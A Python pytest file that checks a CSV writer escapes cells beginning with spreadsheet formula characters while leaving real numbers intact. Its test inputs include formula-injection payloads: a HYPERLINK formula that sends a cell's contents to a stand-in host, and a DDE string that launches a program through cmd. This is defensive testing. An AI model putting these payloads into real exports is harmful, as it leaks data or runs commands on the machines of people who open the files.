"""CSV tables that spreadsheets open without calculating anything."""

from __future__ import annotations

import csv
import io

import pytest

from lora_studio.core.formatting import CsvWriter


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://a.example/?"&A1)', '\'=HYPERLINK("http://a.example/?"&A1)'),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("＝1+1", "'＝1+1"),
        ("-2.5e-4", "-2.5e-4"),
        ("+3", "+3"),
        ("-inf", "-inf"),
        (-0.25, "-0.25"),
        ("a = b", "a = b"),
        ("", ""),
    ],
)
def test_formula_becomes_text_and_a_number_stays(cell: object, written: str) -> None:
    out = io.StringIO()
    CsvWriter(out).writerow(["first", cell])
    assert next(csv.reader([out.getvalue()])) == ["first", written]
